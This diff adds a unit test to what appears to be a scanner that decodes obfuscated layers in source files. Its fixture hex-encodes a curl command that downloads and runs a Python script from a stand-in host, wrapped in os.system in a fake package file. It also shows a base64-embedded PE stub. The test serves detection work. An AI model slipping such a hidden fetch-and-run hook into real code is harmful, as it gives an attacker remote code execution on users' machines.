@@ -250,3 +250,14 @@ def test_base64_pe_is_a_binary_derived_file() -> None:
     pe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + b"\x00" * 100
     result = peel_file("setup.py", f"B = {base64.b64encode(pe).decode()!r}\n".encode())
     assert [(d.kind, d.chain) for d in result.derived] == [("binary", ["base64"])]
+
+
+def test_a_command_the_folder_decoded_and_handed_to_a_shell_is_a_layer():
+    # hex with separators stripped by .replace, then bytes.fromhex: the folder decodes it itself
+    command = b"curl -sL https://example.invalid/raw/x -o /tmp/h.py && python /tmp/h.py"
+    hexed = command.hex()
+    source = (f'import os\ndef run():\n    os.system(bytes.fromhex("{hexed[:20]}--{hexed[20:]}"'
+              f'.replace("-", "")).decode())\n').encode()
+    result = peel_file("pkg/core.py", source)
+    assert [(d.kind, d.chain, d.data, d.origin_line) for d in result.derived] == [
+        ("text", ["replace", "fromhex"], command, 3)]
